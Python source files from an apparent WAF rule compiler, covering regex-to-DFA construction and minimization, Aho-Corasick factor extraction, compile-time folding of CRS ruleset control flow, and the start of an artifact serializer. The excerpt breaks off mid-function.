def _literal_runs(parts: list[Node]) -> list[str]:
    """Longest literal strings formed by consecutive single-byte Lits
    (case-insensitive pairs allowed -> emitted lowercased)."""
    runs: list[str] = []
    cur: list[str] = []
    for p in parts:
        ch = _single_char(p)
        if ch is not None:
            cur.append(ch)
        else:
            if cur:
                runs.append("".join(cur))
            cur = []
    if cur:
        runs.append("".join(cur))
    return runs


def _single_char(node: Node) -> str | None:
    """A Lit that denotes exactly one byte, or one case-insensitive letter
    pair (returned lowercased). The AC prefilter runs case-insensitively, so
    folding is safe (it can only widen, never miss)."""
    if not isinstance(node, Lit):
        return None
    bs = sorted(node.bytes_)
    if len(bs) == 1:
        return chr(bs[0]).lower()
    if len(bs) == 2:
        a, b = bs
        if 0x41 <= a <= 0x5A and b == a + 32:
            return chr(b)
    return None


def required_factors(node: Node) -> list[str] | None:
    """A set of literals such that ANY match of the regex contains at least
    one of them. None if no such (useful) set exists."""
    factors = _required(node)
    if factors is None:
        return None
    factors = [f for f in factors if len(f) >= MIN_FACTOR_LEN]
    if not factors or len(factors) > MAX_FACTORS:
        return None
    return sorted(set(factors))


def _required(node: Node) -> list[str] | None:
    """Returns a factor set ("one of these must appear") or None."""
    if isinstance(node, Lit):
        ch = _single_char(node)
        return [ch] if ch is not None else None
    if isinstance(node, (Dot, Caret, Dollar, Assert)):
        return None
    if isinstance(node, Concat):
        # best single-child factor set; literal runs give longer factors
        best: list[str] | None = None
        runs = _literal_runs(node.parts)
        for r in runs:
            if best is None or len(r) > max(len(f) for f in best):
                best = [r]
        for p in node.parts:
            if isinstance(p, Lit):
                continue  # covered by runs
            got = _required(p)
            if got is not None:
                shortest = min(len(f) for f in got)
                if best is None or shortest > max(len(f) for f in best):
                    best = got
        return best
    if isinstance(node, Alt):
        # need a factor set per branch; union them
        union: list[str] = []
        for opt in node.options:
            got = _required(opt)
            if got is None:
                return None
            union.extend(got)
        return union
    if isinstance(node, Repeat):
        if node.lo >= 1:
            return _required(node.child)
        return None
    return None
