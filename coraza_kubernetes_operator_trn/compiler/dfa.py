"""Subset construction with byte-class compression.

Produces the device table format shared by regex DFAs and Aho-Corasick
automata:

- ``table``   int32 [S, C]   — next-state, row-major
- ``classes`` uint8/16 [258] — symbol -> class (bytes 0..255, BOS=256,
                               EOS=257)
- ``start``   int            — start state
- ``accept``  int            — the single absorbing accept state (or -1)

Design notes (trn-first):

* Absorbing accept keeps the device scan a pure recurrence — the batch
  kernel checks the final state once instead of reducing per-position
  accept flags.
* Byte-class compression shrinks C from 258 to typically 8-48, which is
  what makes the one-hot matmul formulation (ops/automata_jax.py) feasible:
  the contraction dim is S*C.
* A state cap routes pathological patterns to the host engine instead of
  blowing up compile time or SBUF budget.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from .nfa import BOS, EOS, N_SYMBOLS, NFA, regex_to_nfa
from .rx import UnsupportedRegex

MAX_DFA_STATES = 2048


@dataclass
class DFA:
    table: np.ndarray  # int32 [S, C]
    classes: np.ndarray  # int32 [258]
    start: int
    accept: int  # absorbing accept state index, or -1 if none reachable
    pattern: str = ""

    @property
    def n_states(self) -> int:
        return int(self.table.shape[0])

    @property
    def n_classes(self) -> int:
        return int(self.table.shape[1])

    # -- host evaluation (oracle for the jax kernels and a CPU fallback) --
    def matches(self, data: bytes | str) -> bool:
        if isinstance(data, str):
            data = data.encode("latin-1")
        cls = self.classes
        t = self.table
        s = self.start
        s = int(t[s, cls[BOS]])
        for b in data:
            s = int(t[s, cls[b]])
            if s == self.accept:
                return True  # absorbing; early exit is an optimization
        s = int(t[s, cls[EOS]])
        return s == self.accept


def _byte_classes(nfa: NFA) -> np.ndarray:
    """Partition symbols into equivalence classes by NFA transition labels."""
    # signature per symbol: which (state, target) edges include it
    sig: dict[int, list[int]] = {s: [] for s in range(N_SYMBOLS)}
    edge_id = 0
    for st in range(nfa.n_states):
        for syms, _to in nfa.trans[st]:
            for s in syms:
                sig[s].append(edge_id)
            edge_id += 1
    groups: dict[tuple[int, ...], int] = {}
    classes = np.zeros(N_SYMBOLS, dtype=np.int32)
    for s in range(N_SYMBOLS):
        key = tuple(sig[s])
        if key not in groups:
            groups[key] = len(groups)
        classes[s] = groups[key]
    return classes


def _eps_closure(nfa: NFA, states: frozenset[int]) -> frozenset[int]:
    stack = list(states)
    seen = set(states)
    while stack:
        st = stack.pop()
        for nxt in nfa.eps[st]:
            if nxt not in seen:
                seen.add(nxt)
                stack.append(nxt)
    return frozenset(seen)


def nfa_to_dfa(nfa: NFA, pattern: str = "") -> DFA:
    classes = _byte_classes(nfa)
    n_classes = int(classes.max()) + 1
    # representative symbol per class
    reps = np.zeros(n_classes, dtype=np.int32)
    for sym in range(N_SYMBOLS - 1, -1, -1):
        reps[classes[sym]] = sym

    start_set = _eps_closure(nfa, frozenset({nfa.start}))
    # accept-absorbing collapse: any subset containing nfa.accept IS accept
    ACCEPT = "ACCEPT"

    subset_ids: dict[object, int] = {}
    rows: list[list[int]] = []
    worklist: list[tuple[int, frozenset[int]]] = []

    def intern(subset: frozenset[int]) -> int:
        key: object
        if nfa.accept in subset:
            key = ACCEPT
        else:
            key = subset
        if key in subset_ids:
            return subset_ids[key]
        idx = len(subset_ids)
        if idx >= MAX_DFA_STATES:
            raise UnsupportedRegex(
                f"DFA exceeds {MAX_DFA_STATES} states for {pattern!r}")
        subset_ids[key] = idx
        rows.append([0] * n_classes)
        if key is ACCEPT:
            # absorbing: all transitions to itself
            rows[idx] = [idx] * n_classes
        else:
            worklist.append((idx, subset))
        return idx

    start_id = intern(start_set)
    accept_id = -1
    wl_pos = 0
    while wl_pos < len(worklist):
        idx, subset = worklist[wl_pos]
        wl_pos += 1
        for c in range(n_classes):
            sym = int(reps[c])
            nxt: set[int] = set()
            for st in subset:
                for syms, to in nfa.trans[st]:
                    if sym in syms:
                        nxt.add(to)
            nxt_closed = _eps_closure(nfa, frozenset(nxt))
            rows[idx][c] = intern(nxt_closed)
    if ACCEPT in subset_ids:
        accept_id = subset_ids[ACCEPT]

    table = np.asarray(rows, dtype=np.int32)
    return DFA(table=table, classes=classes, start=start_id,
               accept=accept_id, pattern=pattern)


def compile_regex_to_dfa(pattern: str, ignorecase: bool = False) -> DFA:
    """pattern -> DFA; raises UnsupportedRegex outside the device subset."""
    nfa = regex_to_nfa(pattern, ignorecase)
    return nfa_to_dfa(nfa, pattern)
