"""Subset construction with byte-class compression.

Produces the device table format shared by regex DFAs and Aho-Corasick
automata:

- ``table``   int32 [S, C]   — next-state, row-major
- ``classes`` uint8/16 [258] — symbol -> class (bytes 0..255, BOS=256,
                               EOS=257)
- ``start``   int            — start state
- ``accept``  int            — the single absorbing accept state (or -1)

Design notes (trn-first):

* Absorbing accept keeps the device scan a pure recurrence — the batch
  kernel checks the final state once instead of reducing per-position
  accept flags.
* Byte-class compression shrinks C from 258 to typically 8-48, which is
  what makes the one-hot matmul formulation (ops/automata_jax.py) feasible:
  the contraction dim is S*C.
* A state cap routes pathological patterns to the host engine instead of
  blowing up compile time or SBUF budget.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from .nfa import BOS, EOS, N_SYMBOLS, NFA, regex_to_nfa
from .rx import UnsupportedRegex

MAX_DFA_STATES = 2048


@dataclass
class DFA:
    table: np.ndarray  # int32 [S, C]
    classes: np.ndarray  # int32 [258]
    start: int
    accept: int  # absorbing accept state index, or -1 if none reachable
    pattern: str = ""

    @property
    def n_states(self) -> int:
        return int(self.table.shape[0])

    @property
    def n_classes(self) -> int:
        return int(self.table.shape[1])

    # -- host evaluation (oracle for the jax kernels and a CPU fallback) --
    def matches(self, data: bytes | str) -> bool:
        if isinstance(data, str):
            data = data.encode("latin-1")
        cls = self.classes
        t = self.table
        s = self.start
        s = int(t[s, cls[BOS]])
        for b in data:
            s = int(t[s, cls[b]])
            if s == self.accept:
                return True  # absorbing; early exit is an optimization
        s = int(t[s, cls[EOS]])
        return s == self.accept


# \w wordness per symbol: [0-9A-Za-z_] are word bytes; the BOS/EOS
# markers count as non-word, which is exactly host-re's treatment of
# string edges for \b/\B.
_WORD = np.zeros(N_SYMBOLS, dtype=bool)
for _b in range(0x30, 0x3A):
    _WORD[_b] = True
for _b in range(0x41, 0x5B):
    _WORD[_b] = True
for _b in range(0x61, 0x7B):
    _WORD[_b] = True
_WORD[0x5F] = True


def _sym_kind(sym: int) -> str:
    """'w' word byte, 'n' non-word byte, 'm' BOS/EOS marker — the context
    alphabet for \\b/\\B resolution (host-re parity: markers are
    non-word, and \\B additionally fails between two markers)."""
    if sym >= 256:
        return "m"
    return "w" if _WORD[sym] else "n"


def _byte_classes(nfa: NFA) -> np.ndarray:
    """Partition symbols into equivalence classes by NFA transition labels
    (and by wordness/marker kind when the NFA carries \\b/\\B assertion
    edges, since transitions then depend on the consumed symbol's kind)."""
    # signature per symbol: which (state, target) edges include it
    sig: dict[int, list[int]] = {s: [] for s in range(N_SYMBOLS)}
    edge_id = 0
    for st in range(nfa.n_states):
        for syms, _to in nfa.trans[st]:
            for s in syms:
                sig[s].append(edge_id)
            edge_id += 1
    split_kind = nfa.has_asserts
    groups: dict[tuple, int] = {}
    classes = np.zeros(N_SYMBOLS, dtype=np.int32)
    for s in range(N_SYMBOLS):
        key: tuple = (tuple(sig[s]), _sym_kind(s) if split_kind else "")
        if key not in groups:
            groups[key] = len(groups)
        classes[s] = groups[key]
    return classes


def _eps_closure(nfa: NFA, states: frozenset[int]) -> frozenset[int]:
    stack = list(states)
    seen = set(states)
    while stack:
        st = stack.pop()
        for nxt in nfa.eps[st]:
            if nxt not in seen:
                seen.add(nxt)
                stack.append(nxt)
    return frozenset(seen)


def _closure_ctx(nfa: NFA, states: frozenset[int], prev_kind: str,
                 next_kind: str) -> frozenset[int]:
    """Epsilon closure that also crosses \\b/\\B assertion edges, given
    the kinds ('w'/'n'/'m') of the previously consumed symbol and of the
    symbol about to be consumed (assertions sit BETWEEN two symbols).

    Host-re (CPython 3.13) parity: \\b needs exactly one word side
    (markers are non-word); \\B needs equal wordness AND at least one
    real character side — between two markers (the empty value) \\B
    fails too."""
    boundary = (prev_kind == "w") != (next_kind == "w")
    b_ok = boundary
    big_b_ok = (not boundary) and not (prev_kind == "m" and
                                       next_kind == "m")
    stack = list(states)
    seen = set(states)
    while stack:
        st = stack.pop()
        for nxt in nfa.eps[st]:
            if nxt not in seen:
                seen.add(nxt)
                stack.append(nxt)
        for kind, nxt in nfa.asserts[st]:
            ok = b_ok if kind == "b" else big_b_ok
            if ok and nxt not in seen:
                seen.add(nxt)
                stack.append(nxt)
    return frozenset(seen)


def nfa_to_dfa(nfa: NFA, pattern: str = "") -> DFA:
    classes = _byte_classes(nfa)
    n_classes = int(classes.max()) + 1
    # representative symbol per class
    reps = np.zeros(n_classes, dtype=np.int32)
    for sym in range(N_SYMBOLS - 1, -1, -1):
        reps[classes[sym]] = sym

    has_asserts = nfa.has_asserts
    start_set = _eps_closure(nfa, frozenset({nfa.start}))
    # accept-absorbing collapse: any subset containing nfa.accept IS accept
    ACCEPT = "ACCEPT"

    # DFA state = NFA subset (+ last-consumed-symbol kind when the
    # pattern has \b/\B — assertions between symbols need that context)
    subset_ids: dict[object, int] = {}
    rows: list[list[int]] = []
    worklist: list[tuple[int, frozenset[int], str]] = []

    def intern(subset: frozenset[int], k: str) -> int:
        key: object
        if nfa.accept in subset:
            key = ACCEPT  # absorbing: context no longer matters
        elif has_asserts:
            key = (subset, k)
        else:
            key = subset
        if key in subset_ids:
            return subset_ids[key]
        idx = len(subset_ids)
        if idx >= MAX_DFA_STATES:
            raise UnsupportedRegex(
                f"DFA exceeds {MAX_DFA_STATES} states for {pattern!r}")
        subset_ids[key] = idx
        rows.append([0] * n_classes)
        if key is ACCEPT:
            # absorbing: all transitions to itself
            rows[idx] = [idx] * n_classes
        else:
            worklist.append((idx, subset, k))
        return idx

    # initial context 'm': the first consumed symbol is BOS and the
    # position before it behaves like a string edge
    start_id = intern(start_set, "m")
    accept_id = -1
    wl_pos = 0
    while wl_pos < len(worklist):
        idx, subset, k = worklist[wl_pos]
        wl_pos += 1
        for c in range(n_classes):
            sym = int(reps[c])
            ka = _sym_kind(sym)
            src = (_closure_ctx(nfa, subset, k, ka) if has_asserts
                   else subset)
            nxt: set[int] = set()
            for st in src:
                for syms, to in nfa.trans[st]:
                    if sym in syms:
                        nxt.add(to)
            nxt_closed = _eps_closure(nfa, frozenset(nxt))
            rows[idx][c] = intern(nxt_closed, ka)
    if ACCEPT in subset_ids:
        accept_id = subset_ids[ACCEPT]

    table = np.asarray(rows, dtype=np.int32)
    return DFA(table=table, classes=classes, start=start_id,
               accept=accept_id, pattern=pattern)


def minimize_dfa(dfa: DFA) -> DFA:
    """Hopcroft-style minimization + byte-class recompression.

    Three passes, all vectorized:

    1. drop states unreachable from ``start``;
    2. partition refinement (Moore/Hopcroft fixpoint over per-class
       successor-block signatures) merging Myhill-Nerode-equivalent
       states — the single absorbing accept state seeds its own block and
       every dead state (no path to accept) collapses into one;
    3. re-merge symbol classes whose minimized columns coincide (state
       merges routinely make previously distinct columns identical).

    The language from ``start`` — and hence every stream verdict — is
    preserved exactly; block numbering is canonical (BFS from the start
    block) so minimization is deterministic. Matters doubly for stride
    composition (ops/packing.compose_stride): the composed table is
    [S, P] with P ~ C², so shrinking S and C first shrinks the pair
    table quadratically.
    """
    table = dfa.table
    S, C = table.shape
    if S == 0:
        return dfa

    # 1. reachability from start
    reach = np.zeros(S, dtype=bool)
    reach[dfa.start] = True
    frontier = np.array([dfa.start])
    while frontier.size:
        nxt = np.unique(table[frontier].ravel())
        frontier = nxt[~reach[nxt]]
        reach[frontier] = True
    idx = np.flatnonzero(reach)
    remap = np.full(S, -1, dtype=np.int64)
    remap[idx] = np.arange(idx.size)
    t = remap[table[idx]]  # [S', C] closed over reachable states

    # 2. partition refinement to a fixpoint: split blocks by
    # (own block, successor block per class) until stable
    part = np.zeros(idx.size, dtype=np.int64)
    accept_reach = dfa.accept >= 0 and bool(reach[dfa.accept])
    if accept_reach:
        part[remap[dfa.accept]] = 1
    n_blocks = int(part.max()) + 1
    while True:
        sig = np.concatenate([part[:, None], part[t]], axis=1)
        _, part = np.unique(sig, axis=0, return_inverse=True)
        n_new = int(part.max()) + 1
        if n_new == n_blocks:
            break
        n_blocks = n_new

    # canonical renumbering: BFS over blocks from the start block
    rep = np.zeros(n_blocks, dtype=np.int64)
    rep[part] = np.arange(idx.size)  # any representative works
    bt = part[t[rep]]  # [n_blocks, C] block-level transitions
    start_b = int(part[remap[dfa.start]])
    order: list[int] = [start_b]
    seen = np.zeros(n_blocks, dtype=bool)
    seen[start_b] = True
    qi = 0
    while qi < len(order):
        for nb in bt[order[qi]]:
            if not seen[nb]:
                seen[nb] = True
                order.append(int(nb))
        qi += 1
    new_id = np.zeros(n_blocks, dtype=np.int64)
    new_id[order] = np.arange(n_blocks)
    table_m = new_id[bt][order].astype(np.int32)

    # 3. class recompression: merge classes with identical columns
    cols, inv = np.unique(table_m, axis=1, return_inverse=True)
    classes_m = inv.astype(np.int32)[dfa.classes]

    accept_m = int(new_id[part[remap[dfa.accept]]]) if accept_reach else -1
    return DFA(table=np.ascontiguousarray(cols, dtype=np.int32),
               classes=classes_m, start=0, accept=accept_m,
               pattern=dfa.pattern)


def compile_regex_to_dfa(pattern: str, ignorecase: bool = False,
                         minimize: bool = True) -> DFA:
    """pattern -> DFA; raises UnsupportedRegex outside the device subset.

    ``minimize=False`` keeps the raw subset-construction automaton (the
    differential-fuzz oracle pairs it against the minimized one)."""
    nfa = regex_to_nfa(pattern, ignorecase)
    dfa = nfa_to_dfa(nfa, pattern)
    return minimize_dfa(dfa) if minimize else dfa
