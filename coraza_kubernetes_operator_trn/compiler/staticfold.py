"""Compile-time partial evaluation of the static control plane.

CRS-scale rulesets spend most of their rules on CONFIGURATION, not
detection: paranoia-level gates (``SecRule TX:DETECTION_PARANOIA_LEVEL
"@lt 2" ... skipAfter:END-X``), default-setting guards (``SecRule
&TX:blocking_paranoia_level "@eq 0" "setvar:tx...=1"``) and threshold
reads. Every one of those predicates ranges over TX variables whose
values are decided by the ruleset text itself, not by the request. On
the reference stack this control plane is re-executed per request by
coraza/v3 inside the WASM data plane (the operator only validates:
reference internal/controller/ruleset_controller.go:158-171); on trn we
run it ONCE, at compile time.

This module abstractly interprets the ruleset in execution order
(phase-major, source order, markers and skipAfter honored) over the TX
collection and classifies every rule:

- **never-fire**: the predicate folds False on constants, or the rule
  sits in a skip region behind a statically-taken skipAfter, or a
  statically-fired rule ctl-removed it. Sound to drop from BOTH the
  device plan and the host walk: the host's own dynamic execution of
  the rule is a provable no-op.
- **always-fire**: predicate folds True (config/setup rules). Their
  setvar effects are applied to the abstract environment; the rules
  themselves still run on the host (they are cheap and their TX writes
  feed later dynamic rules).
- **maybe-fire**: request-dependent. Their TX writes poison the
  written selectors (value becomes unknown) from that point in
  execution order on.

A second fold under the *gated-clean assumption* (every device-gated
rule's gate bit is False, so none of them fired) powers the device-only
fast path on real CRS: anomaly-score accumulators provably keep their
static values, so the blocking rules (949xxx/959xxx ``@ge
%{tx.inbound_anomaly_score_threshold}``) fold False and a clean request
never needs the host phase walk at all.

Soundness notes:

- Folding mirrors the host engine exactly where it folds, and degrades
  to "unknown" everywhere else (regex TX selectors over poisoned keys,
  macros over non-TX collections, operators outside the registry
  semantics, persistent collections).
- Operators missing from OPERATORS never match in the host engine
  (engine/transaction.py _match_rule_targets); the fold mirrors that
  with a False verdict rather than unknown.
- A maybe-fire rule with skipAfter makes the skip region
  "maybe-skipped": region rules can still run, so True folds there are
  downgraded to maybe-fire (their writes poison), while False folds
  stay False (skipped-or-not, the rule cannot fire).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import re

from ..engine.operators import OPERATORS
from ..engine.transforms import TRANSFORMS
from ..seclang.ast import Marker, Rule, RuleSetAST

_MACRO_RX = re.compile(r"%\{([^}]+)\}")

# Disruptive actions that can flip an allow verdict to a block. "block"
# delegates to SecDefaultAction's disruptive, which may be deny.
_DENY_CAPABLE = frozenset({"deny", "drop", "redirect", "proxy", "block"})


class _Unknown:
    """Sentinel: value/verdict depends on the request."""

    __slots__ = ()

    def __repr__(self) -> str:  # pragma: no cover
        return "UNKNOWN"


UNKNOWN = _Unknown()


@dataclass
class FoldResult:
    never_fire: set[int] = field(default_factory=set)
    always_fire: set[int] = field(default_factory=set)
    maybe_fire: set[int] = field(default_factory=set)
    # always-fire rules whose entire effect is control flow the fold has
    # already materialized (pass+nolog skipAfter/skip gates, metadata
    # only): running them per request is a provable no-op, so the host
    # walk can gate-skip them like never_fire rules
    inert_noop: set[int] = field(default_factory=set)
    # (rule_id, link_index) -> operator argument with every macro
    # substituted by its compile-time TX value (recorded only when fully
    # static); lets @within/@eq/@gt rules over config vars device-compile
    static_args: dict = field(default_factory=dict)
    # final abstract TX environment (selector -> value | UNKNOWN)
    env: dict = field(default_factory=dict)
    # maybe-/always-fire rules that could change the verdict or the walk
    # itself if they fired: deny-capable disruptive, or any ctl action.
    # Phase-5 rules are excluded (the logging phase cannot disrupt).
    deny_capable_maybe: set[int] = field(default_factory=set)
    deny_capable_always: set[int] = field(default_factory=set)


class _Folder:
    def __init__(self, ast: RuleSetAST, default_actions,
                 assume_not_fired: frozenset[int]):
        self.ast = ast
        self.default_actions = default_actions
        self.assume_not_fired = assume_not_fired
        self.env: dict[str, object] = {}  # tx key -> str | UNKNOWN
        self.removed: set[int] = set()  # statically ctl-removed
        self.maybe_removed: set[int] = set()
        self.res = FoldResult()

    # -- environment ---------------------------------------------------
    def _tx_values(self, var) -> "list[object] | None":
        """Values a TX variable expression selects, or None when the
        selection itself is request-dependent (regex over poisoned env)."""
        if var.selector is None:
            vals = list(self.env.values())
            if any(v is UNKNOWN for v in vals):
                return None
            return vals
        if var.selector_is_regex:
            pat = var.selector.strip("/")
            try:
                rx = re.compile(pat, re.IGNORECASE)
            except re.error:
                return None
            out = []
            for k, v in self.env.items():
                if rx.search(k):
                    if v is UNKNOWN:
                        return None
                    out.append(v)
            return out
        v = self.env.get(var.selector.lower())
        if v is UNKNOWN:
            return None
        return [v] if v is not None else []

    def _expand(self, text: str) -> "str | _Unknown":
        """Macro-expand against the abstract env; UNKNOWN if any macro
        ranges outside compile-time-known TX values."""
        out: list[str] = []
        pos = 0
        for m in _MACRO_RX.finditer(text):
            out.append(text[pos:m.start()])
            expr = m.group(1).strip()
            coll, _, key = expr.partition(".")
            if coll.upper() != "TX" or not key:
                return UNKNOWN
            v = self.env.get(key.lower())
            if v is UNKNOWN:
                return UNKNOWN
            out.append(v if v is not None else "")
            pos = m.end()
        out.append(text[pos:])
        return "".join(out)

    # -- predicate -----------------------------------------------------
    def _eval_link(self, head: Rule, link: Rule) -> "bool | _Unknown":
        op = link.operator
        if link.is_sec_action or op is None:
            return True
        fn = OPERATORS.get(op.name)
        if fn is None:
            # host engine: unimplemented operators never match, even when
            # negated (_match_rule_targets returns no pairs either way)
            return False
        # every target must be a compile-time-known TX selection
        values: list[object] = []
        for var in link.variables:
            if var.exclude:
                return UNKNOWN
            if var.collection != "TX":
                return UNKNOWN
            got = self._tx_values(var)
            if got is None:
                return UNKNOWN
            if var.count:
                values.append(str(len(got)))
            else:
                values.extend(got)
        arg = self._expand(op.argument)
        if arg is UNKNOWN:
            return UNKNOWN
        if link.has_transforms:
            tnames = [t.name for t in link.transformations]
        else:
            default = self.default_actions.get(head.phase)
            tnames = list(default.transformations) if default else []
        multi = link.action("multimatch") is not None
        for value in values:
            if multi:
                stages = [value]
                v = value
                for tn in tnames:
                    v = TRANSFORMS[tn](v)
                    stages.append(v)
            else:
                v = value
                for tn in tnames:
                    v = TRANSFORMS[tn](v)
                stages = [v]
            for sv in stages:
                try:
                    res = bool(fn(sv, arg))
                except Exception:
                    return UNKNOWN
                if res != op.negated:
                    return True
        return False

    def _eval_rule(self, rule: Rule) -> "bool | _Unknown":
        """Whole-rule (chain-AND) predicate over the abstract env."""
        if rule.id in self.assume_not_fired:
            return False
        verdict: "bool | _Unknown" = True
        for link in [rule] + rule.chain_rules:
            got = self._eval_link(rule, link)
            if got is False:
                return False
            if got is UNKNOWN:
                verdict = UNKNOWN
        return verdict

    # -- effects -------------------------------------------------------
    def _apply_setvars(self, links: list[Rule], certain: bool) -> None:
        """Apply (certain=True) or poison (certain=False) TX writes of the
        given links; also register ctl rule removals."""
        for link in links:
            for act in link.actions:
                if act.name == "setvar":
                    spec_raw = act.argument or ""
                    spec = self._expand(spec_raw)
                    if spec is UNKNOWN:
                        # selector may still be known even when the value
                        # is not: poison just the written key
                        tgt = spec_raw.split("=", 1)[0].lstrip("!")
                        coll, _, key = tgt.partition(".")
                        if coll.strip().upper() == "TX" and key and \
                                "%{" not in key:
                            self.env[key.strip().lower()] = UNKNOWN
                        continue
                    if spec.startswith("!"):
                        coll, _, key = spec[1:].partition(".")
                        if coll.upper() == "TX" and key:
                            if certain:
                                self.env.pop(key.lower(), None)
                            else:
                                self.env[key.lower()] = UNKNOWN
                        continue
                    target, _, value = spec.partition("=")
                    coll, _, key = target.partition(".")
                    if coll.strip().upper() != "TX" or not key:
                        continue  # persistent collections: host-domain
                    key = key.strip().lower()
                    if not certain:
                        self.env[key] = UNKNOWN
                        continue
                    if value[:1] in "+-":
                        cur = self.env.get(key, "0")
                        if cur is UNKNOWN:
                            continue
                        # mirror engine _to_float/_fmt_num exactly
                        from ..engine.transaction import _fmt_num, _to_float
                        num = _to_float(cur or "0")
                        delta = _to_float(value[1:] or "0")
                        num = num + delta if value[0] == "+" else num - delta
                        self.env[key] = _fmt_num(num)
                    else:
                        self.env[key] = value
                elif act.name == "ctl":
                    spec = act.argument or ""
                    k, _, v = spec.partition("=")
                    if k.strip().lower() != "ruleremovebyid":
                        continue
                    ids: set[int] = set()
                    for part in v.split():
                        part = part.strip()
                        try:
                            if "-" in part:
                                lo, hi = part.split("-", 1)
                                ids.update(range(int(lo), int(hi) + 1))
                            else:
                                ids.add(int(part))
                        except ValueError:
                            pass
                    (self.removed if certain
                     else self.maybe_removed).update(ids)

    # Actions with no per-request effect beyond metadata/logging intent.
    # "severity" is metadata-like but WRITES HIGHEST_SEVERITY; "log",
    # "auditlog" and "capture" leave observable per-request state; all are
    # deliberately absent here.
    _INERT_ACTIONS = frozenset({
        "pass", "nolog", "noauditlog", "skipafter", "skip", "chain",
        "multimatch",
        "id", "phase", "msg", "logdata", "tag", "rev", "ver", "maturity",
        "accuracy",
    })

    def _is_inert(self, links: list[Rule]) -> bool:
        """True when running the (always-firing) rule per request is a
        provable no-op: its only effects are control flow the fold has
        already materialized (skipAfter targets marked never-fire) and
        metadata. Disabled globally when any rule head reads
        MATCHED_VAR*/HIGHEST_SEVERITY (those depend on which rule matched
        last, so removing a firing rule would change them)."""
        if self._matchedvar_readers:
            return False
        for ln in links:
            for a in ln.actions:
                if a.name.lower() not in self._INERT_ACTIONS:
                    return False
        return True

    @staticmethod
    def _has_unmodeled_ctl(links: list[Rule]) -> bool:
        """ctl actions other than ruleRemoveById (which the fold applies
        itself) change the walk in ways the fold does not model — e.g.
        ctl:requestBodyProcessor redirects body parsing."""
        for ln in links:
            for a in ln.actions:
                if a.name == "ctl":
                    key = (a.argument or "").partition("=")[0]
                    if key.strip().lower() != "ruleremovebyid":
                        return True
        return False

    # -- walk ----------------------------------------------------------
    def run(self) -> FoldResult:
        # global guard for inert_noop: non-chain reads of last-match state
        self._matchedvar_readers = any(
            v.collection in ("MATCHED_VAR", "MATCHED_VARS",
                             "MATCHED_VARS_NAMES", "HIGHEST_SEVERITY")
            for item in self.ast.items if isinstance(item, Rule)
            for v in item.variables)
        classified: dict[int, str] = {}
        for phase in (1, 2, 3, 4, 5):
            skip_until: str | None = None
            skip_count = 0  # certain skip:n region
            maybe_skip: set[str] = set()
            maybe_skip_count = 0  # uncertain skip:n region
            for item in self.ast.items:
                if isinstance(item, Marker):
                    if skip_until is not None and item.label == skip_until:
                        skip_until = None
                    maybe_skip.discard(item.label)
                    continue
                if not isinstance(item, Rule) or item.phase != phase:
                    continue
                rid = item.id
                if skip_until is not None or skip_count > 0 or \
                        rid in self.removed:
                    # statically unreachable in this phase walk
                    skip_count = max(0, skip_count - 1)
                    classified[rid] = "never"
                    continue
                verdict = self._eval_rule(item)
                uncertain_run = bool(maybe_skip) or maybe_skip_count > 0 \
                    or rid in self.maybe_removed
                maybe_skip_count = max(0, maybe_skip_count - 1)
                links = [item] + item.chain_rules
                # operator args expand before any action of the rule runs:
                # record compile-time-resolvable macro args here
                for li, ln in enumerate(links):
                    op = ln.operator
                    if op is not None and "%{" in op.argument:
                        got = self._expand(op.argument)
                        if got is not UNKNOWN:
                            self.res.static_args[(rid, li)] = got
                if verdict is False:
                    classified[rid] = "never"
                    continue
                if verdict is True and not uncertain_run:
                    classified[rid] = "always"
                    self._apply_setvars(links, certain=True)
                    for ln in links:
                        for a in ln.actions:
                            if a.name == "skipafter":
                                skip_until = a.argument or ""
                            elif a.name == "skip":
                                try:
                                    skip_count = max(
                                        skip_count,
                                        int(a.argument or "0"))
                                except ValueError:
                                    pass
                    if self._is_inert(links):
                        self.res.inert_noop.add(rid)
                    if phase != 5 and (
                            item.disruptive in _DENY_CAPABLE
                            or self._has_unmodeled_ctl(links)):
                        self.res.deny_capable_always.add(rid)
                    continue
                # maybe-fire (or certain-predicate inside a maybe-skipped
                # region): effects poison, skipAfter/skip become maybe
                classified[rid] = "maybe"
                # head actions run on head match even if the chain fails;
                # conservatively poison head + links alike
                self._apply_setvars(links, certain=False)
                for ln in links:
                    for a in ln.actions:
                        if a.name == "skipafter":
                            maybe_skip.add(a.argument or "")
                        elif a.name == "skip":
                            try:
                                maybe_skip_count = max(
                                    maybe_skip_count,
                                    int(a.argument or "0"))
                            except ValueError:
                                pass
                if phase != 5 and (
                        item.disruptive in _DENY_CAPABLE
                        or any(a.name == "ctl" for ln in links
                               for a in ln.actions)):
                    self.res.deny_capable_maybe.add(rid)
        for rid, cls in classified.items():
            if cls == "never":
                self.res.never_fire.add(rid)
            elif cls == "always":
                self.res.always_fire.add(rid)
            else:
                self.res.maybe_fire.add(rid)
        self.res.env = dict(self.env)
        return self.res


def fold_static(ast: RuleSetAST, default_actions,
                assume_not_fired: "frozenset[int] | set[int]" = frozenset(),
                ) -> FoldResult:
    """Partial-evaluate the ruleset; see module docstring.

    ``assume_not_fired``: rule ids assumed NOT to fire (used for the
    gated-clean fold: all device-gated rules with gate bit False)."""
    return _Folder(ast, default_actions,
                   frozenset(assume_not_fired)).run()
