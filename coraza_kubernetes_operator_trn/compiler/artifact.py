"""Content-addressed compiled-artifact serialization.

The cache server ships these binary artifacts to data-plane nodes instead of
SecLang text — the trn analog of the reference's versioned rules-text
entries (reference: internal/rulesets/cache/cache.go:38-43, where each entry
carries UUID + timestamp + rules). The artifact digest is content-addressed
(sha256 of the canonical payload) so identical rulesets dedupe and nodes can
cheap-poll for changes exactly like the reference's /latest protocol
(reference: internal/rulesets/cache/server.go:163-181).

Format: a single .npz-compatible zip with a JSON manifest + numpy tables.
No pickle — artifacts cross trust boundaries.
"""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
import zlib

import numpy as np

from ..seclang.ast import Variable
from .compile import CompiledRuleSet, Matcher, compile_ruleset
from .dfa import DFA

FORMAT_VERSION = 5  # v5: waf-audit stamp (refuse artifacts built dirty)


def _var_to_json(v: Variable) -> dict:
    return {
        "collection": v.collection, "selector": v.selector,
        "count": v.count, "exclude": v.exclude,
        "selector_is_regex": v.selector_is_regex,
    }


def _var_from_json(d: dict) -> Variable:
    return Variable(
        collection=d["collection"], selector=d["selector"],
        count=d["count"], exclude=d["exclude"],
